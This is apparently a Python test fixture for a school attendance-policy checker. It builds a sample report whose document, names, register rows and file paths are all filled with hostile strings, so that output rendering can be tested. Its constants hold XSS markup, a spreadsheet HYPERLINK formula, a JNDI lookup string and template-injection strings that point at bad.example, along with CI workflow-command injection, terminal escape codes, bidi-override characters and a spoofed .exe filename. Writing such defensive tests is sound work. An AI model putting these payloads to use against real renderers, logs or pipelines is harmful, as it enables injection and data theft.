"""A run in which every text that comes from outside tries to do harm: the document, the names, the rows, the path."""

from __future__ import annotations

import datetime as dt
from dataclasses import replace
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

from checker.documents.model import Document
from checker.facts import PublishedFact
from checker.findings import Finding, Passage, Row, Verdict
from checker.levels import Level
from checker.report import PluginInfo, Report, Status, Subject, SubjectKind, Trouble
from checker.reports.presentation import Presentation
from checker.schools import School, SchoolType
from tests.reports.sample import Sample, catalogue, load

LONG_WORD = "W" * 10_000
MARKUP = "<script>alert('stolen')</script><img src=x onerror=alert(1)></style></textarea><!-- ]]> &lol; <!ENTITY a 'b'>"
FORMULA = '=HYPERLINK("http://bad.example","open me")'
TERMINAL = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J \x08\x7f"
DIRECTION = "\u202eDESREVER\u202c \u2066inside\u2069 \u200f"
COMMAND = "%0A::error title=stolen::stolen"
MARKDOWN = (
    "@everyone see #1 and org/repo#2 ![](http://bad.example/pixel.png) [here](javascript:alert(1)) "
    "`code` **bold** | cell | $math$ ~~gone~~ www.bad.example"
)
TEMPLATE = "{{ 7 * 7 }} ${jndi:ldap://bad.example} %s %(name)s"
HOSTILE = " ".join([MARKUP, FORMULA, TERMINAL, DIRECTION, COMMAND, MARKDOWN, TEMPLATE])
HOSTILE_LINES = f"{HOSTILE}\n::error::stolen\r\n::add-mask::a\n# Stolen heading\n- [ ] stolen\n"
_AS_AT = dt.date(2026, 11, 22)


@cache
def hostile() -> Sample:
    """The run: a policy, a register, and a file that could not be read."""
    document = _document()
    subjects = (_policy(document), _register(), _unreadable())
    law = tuple(replace(each, not_read=(HOSTILE,)) for each in catalogue().law)
    report = Report(
        subjects,
        (PluginInfo("sample_law", "1.0.0"),),
        law,
        {kind.value: len(catalogue().of_kind(kind)) for kind in SubjectKind},
    )
    return Sample(report, Presentation(load=lambda _: document))


def _document() -> Document:
    text = f"Attendance Policy\n\n{HOSTILE}\n\n{FORMULA}\n\n- {MARKUP}\n\nA long word: {LONG_WORD}\n"
    with TemporaryDirectory() as folder:
        file = Path(folder) / "policy.txt"
        file.write_text(text, encoding="utf-8")
        return load(file)


def _policy(document: Document) -> Subject:
    whole = Passage(document.text, 0, len(document.text), 1, HOSTILE, HOSTILE)
    start = document.text.index(FORMULA, document.text.index(FORMULA) + 1)
    formula = document.passage(start, start + len(FORMULA))
    word = document.passage(document.text.index(LONG_WORD), document.text.index(LONG_WORD) + len(LONG_WORD))
    passages = (formula, word, whole)
    facts = (
        PublishedFact("approval", {"by": HOSTILE, "on": FORMULA}, passages),
        PublishedFact("attendance_champion", [{"name": HOSTILE, "post": LONG_WORD, "email": FORMULA}], (word,)),
        PublishedFact(HOSTILE, [HOSTILE, TERMINAL]),
    )
    return Subject(
        SubjectKind.POLICY, f"policies/{MARKUP.replace('/', '')}{DIRECTION}{TERMINAL}.txt", "a1" * 32, HOSTILE_LINES,
        _AS_AT, (School(HOSTILE, (SchoolType.ACADEMY,), FORMULA, LONG_WORD),), notes=(HOSTILE_LINES,), facts=facts,
        findings=_findings(SubjectKind.POLICY, passages), file=Path("policy.txt"),
    )  # fmt: skip


def _register() -> Subject:
    rows = (
        Row(FORMULA, "2026-10-05", "AM", MARKUP, HOSTILE_LINES, HOSTILE),
        Row(LONG_WORD, TERMINAL, DIRECTION, COMMAND, MARKDOWN, TEMPLATE),
    )
    return Subject(
        SubjectKind.REGISTER, "registers/=1+1", "b2" * 32, FORMULA, _AS_AT, (School(FORMULA),),
        findings=_findings(SubjectKind.REGISTER, (), rows),
    )  # fmt: skip


def _findings(
    kind: SubjectKind, passages: tuple[Passage, ...], rows: tuple[Row, ...] | None = None
) -> tuple[Finding, ...]:
    """Findings of every verdict and level, in turn."""
    verdicts = (Verdict.FAIL, Verdict.FAIL, Verdict.REVIEW, Verdict.PASS, Verdict.WAIVED, Verdict.ERROR, Verdict.PASS)
    return tuple(
        Finding(
            requirement, verdicts[place % len(verdicts)], list(Level)[place % len(Level)],
            HOSTILE_LINES if place % 2 else FORMULA, FORMULA if place % 2 else HOSTILE_LINES, requirement.citations,
            passages, HOSTILE_LINES, rows,
        )
        for place, requirement in enumerate(catalogue().of_kind(kind))
    )  # fmt: skip


def _unreadable() -> Subject:
    return Subject(
        SubjectKind.POLICY, "policies/\u202efdp.exe", None, None, _AS_AT, status=Status.UNREADABLE,
        trouble=Trouble("broken", HOSTILE_LINES),
    )  # fmt: skip
